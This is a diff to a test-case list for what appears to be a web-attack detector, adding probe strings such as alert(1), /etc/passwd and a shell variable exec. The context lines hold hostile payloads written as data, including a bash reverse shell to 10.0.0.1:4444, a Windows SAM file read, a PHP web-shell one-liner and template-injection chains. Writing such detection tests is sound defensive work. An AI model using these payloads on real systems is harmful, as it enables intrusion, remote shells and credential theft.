@@ -53,6 +53,7 @@ CASES = [
     ("query", "\";alert('xss');//", "xss_js_breakout"),
     ("query", "+ADw-script+AD4-alert(1)", "xss_utf7"),
     ("query", "<div style=\"width:expression(alert(1))\">", "xss_css_expression"),
+    ("query", "alert(1)", "xss_probe_value"),
     ("query", "{{7*7}}", "ssti_arithmetic"),
     ("query", "{{''.__class__.__mro__[1].__subclasses__()}}", "ssti_object_internals"),
     ("query", "${\"calc.exe\".execute()}", "ssti_method_call"),
@@ -79,6 +80,7 @@ CASES = [
     ("query", "| type C:\\Windows\\win.ini", "shell_windows_path_command"),
     ("query", "type %SYSTEMROOT%\\repair\\SAM", "shell_windows_variable"),
     ("query", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell_reverse_shell"),
+    ("query", "x;CMD=$'id';$CMD", "shell_variable_exec"),
     ("body", "then run ; whoami to see", "shell_probe_text"),
     ("query", "<?php system($_GET['c']); ?>", "php_code"),
     ("query", "php://filter/convert.base64-encode/resource=index.php", "php_wrapper"),
@@ -114,6 +116,10 @@ PARANOID_CASES = [
     (2, "query", "a; echo hi", "shell_probe_word"),
     (2, "query", "*)(cn=x", "ldap_filter"),
     (2, "path", "/cart;jsessionid=0123456789abcdef", "session_id_in_url"),
+    (2, "query", "/etc/passwd", "lfi_system_path"),
+    (2, "query", "https://elsewhere.example/", "redirect_absolute_url"),
+    (2, "query", "<b>bold</b>", "xss_markup_value"),
+    (2, "query", "{{ user.name }}", "ssti_template_value"),
 ]
 
 
